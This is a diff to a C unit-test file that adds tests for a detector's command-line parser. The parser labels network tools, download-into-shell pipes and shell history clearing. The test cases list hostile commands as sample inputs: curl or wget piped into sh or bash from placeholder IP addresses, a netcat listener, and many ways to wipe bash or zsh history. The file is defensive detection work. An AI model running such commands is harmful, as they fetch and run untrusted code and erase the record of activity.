@@ -1,6 +1,7 @@
 /*
  * The detector's parts: the bounded table (LRU, SLRU protection, expiry),
- * the sample store, time zones, and refusing bad saved state.
+ * the sample store, time zones, refusing bad saved state, and the command
+ * line reader of commands_of_interest.
  * Rules themselves are tested as data (detect_data.c).
  */
 #include <errno.h>
@@ -13,6 +14,7 @@
 #include <cmocka.h>
 
 #include "config/config.h"
+#include "detect/cmdline.h"
 #include "detect/detect.h"
 #include "detect/sample.h"
 #include "detect/table.h"
@@ -258,13 +260,100 @@ static void test_disabled(void **state)
 	ps_config_free(&cfg);
 }
 
+/* What ps_cmd_find finds in a text: its labels, space-separated, in order. */
+static void labels(const char *text, char *buf, size_t size)
+{
+	static const struct ps_cmd_rules rules = { ps_cmd_default_tools, 9, true, true };
+	struct ps_cmd_match m[4];
+	size_t n = ps_cmd_find(&rules, ps_cstr(text), m, 4), len = 0;
+	buf[0] = '\0';
+	for (size_t i = 0; i < n; i++) {
+		struct ps_str l = ps_cmd_label(&m[i]);
+		len += (size_t)snprintf(buf + len, size - len, "%s%.*s", i ? " " : "", (int)l.n, l.p);
+	}
+}
+
+static void test_cmdline(void **state)
+{
+	(void)state;
+	static const struct { const char *text, *want; } cases[] = {
+		/* Programs of the list, by base name, past wrappers and assignments. */
+		{ "nmap -sS 192.0.2.0/24", "nmap" },
+		{ "/usr/bin/ss -tlnp", "ss" },
+		{ "sudo -u bob -- tcpdump -i any port 22", "tcpdump" },
+		{ "LANG=C timeout 5 nc -z 192.0.2.1 22", "nc" },
+		{ "env -i FOO=1 nice -n 5 lsof -i", "lsof" },
+		{ "if true; then netstat -an; fi", "netstat" },
+		{ "echo ss nmap; git commit -m 'nmap'", "" },
+		{ "ls; ncat -l 4444 & socat - tcp:192.0.2.1:80", "ncat socat" },
+		{ "xargs -n1 nc -zv < hosts", "nc" },
+		/* A download into a shell. */
+		{ "curl -fsSL https://example.org/i.sh | sh", "download_to_shell" },
+		{ "wget -qO- http://192.0.2.1/x | sudo bash -s -- -y", "download_to_shell" },
+		{ "curl -s http://192.0.2.1/x | tee /tmp/x | bash", "download_to_shell" },
+		{ "bash <(curl -s http://192.0.2.1/x)", "download_to_shell" },
+		{ "sh -c \"$(wget -O- http://192.0.2.1/x)\"", "download_to_shell" },
+		{ "bash -c 'curl -s http://192.0.2.1/x | sh'", "download_to_shell" },
+		{ "echo \"$(curl -s http://192.0.2.1/x)\" | sh", "download_to_shell" },
+		{ "su -c 'curl http://192.0.2.1/x | sh' root", "download_to_shell" },
+		{ "sh `curl -s http://192.0.2.1/x`", "download_to_shell" },
+		{ "curl -o x.sh http://192.0.2.1/x; sh x.sh", "" },
+		{ "curl http://192.0.2.1/x | grep sh; cat | sh", "" },
+		{ "echo 'curl x | sh'", "" },
+		/* History clearing. */
+		{ "history -c", "history_clearing" },
+		{ "history -cw", "history_clearing" },
+		{ "unset HISTFILE", "history_clearing" },
+		{ "export HISTFILE=/dev/null", "history_clearing" },
+		{ "HISTSIZE=0", "history_clearing" },
+		{ "export HISTFILESIZE=0 HISTSIZE=0", "history_clearing" },
+		{ "set +o history", "history_clearing" },
+		{ "rm -f ~/.bash_history", "history_clearing" },
+		{ "shred -u /root/.zsh_history", "history_clearing" },
+		{ "ln -sf /dev/null ~/.bash_history", "history_clearing" },
+		{ "cat /dev/null > ~/.bash_history", "history_clearing" },
+		{ ">~/.bash_history", "history_clearing" },
+		{ "echo hi >> ~/.bash_history; history; export HISTSIZE=1000; cat .bash_history", "" },
+		/* Typed input: lines end with CR; several findings in one text, each once. */
+		{ "id\rnmap -p22 192.0.2.0/24\rhistory -c\rnmap 198.51.100.1\r", "nmap history_clearing" },
+		/* Oddities: unclosed quotes and substitutions, operators alone. */
+		{ "nmap 'unclosed", "nmap" },
+		{ "bash <(curl http://192.0.2.1/x", "download_to_shell" },
+		{ "| ; && ) ( ` $( <(", "" },
+		{ "", "" },
+	};
+	char got[256];
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		labels(cases[i].text, got, sizeof(got));
+		if (strcmp(got, cases[i].want) != 0)
+			fail_msg("'%s': found '%s', want '%s'", cases[i].text, got, cases[i].want);
+	}
+	/* Padding does not hide what follows: a thousand words, then the command. */
+	static char padded[4096];
+	size_t len = 0;
+	for (int i = 0; i < 1000; i++)
+		len += (size_t)snprintf(padded + len, sizeof(padded) - len, "x ");
+	snprintf(padded + len, sizeof(padded) - len, "; nmap 192.0.2.1");
+	labels(padded, got, sizeof(got));
+	assert_string_equal(got, "nmap");
+
+	/* One command line, however it is seen, hashes the same. */
+	static const struct ps_cmd_rules rules = { ps_cmd_default_tools, 9, true, true };
+	struct ps_cmd_match a, b;
+	assert_int_equal(ps_cmd_find(&rules, PS_LIT("sudo /usr/bin/nmap -sS 192.0.2.1"), &a, 1), 1);
+	assert_int_equal(ps_cmd_find(&rules, PS_LIT("nmap -sS '192.0.2.1'"), &b, 1), 1);
+	assert_true(a.hash == b.hash);
+	assert_int_equal(ps_cmd_find(&rules, PS_LIT("nmap -sS 192.0.2.2"), &b, 1), 1);
+	assert_true(a.hash != b.hash);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_table_lru),  cmocka_unit_test(test_table_protected),
 		cmocka_unit_test(test_table_stale), cmocka_unit_test(test_samples),
 		cmocka_unit_test(test_tz),         cmocka_unit_test(test_state_refused),
-		cmocka_unit_test(test_disabled),
+		cmocka_unit_test(test_disabled),   cmocka_unit_test(test_cmdline),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
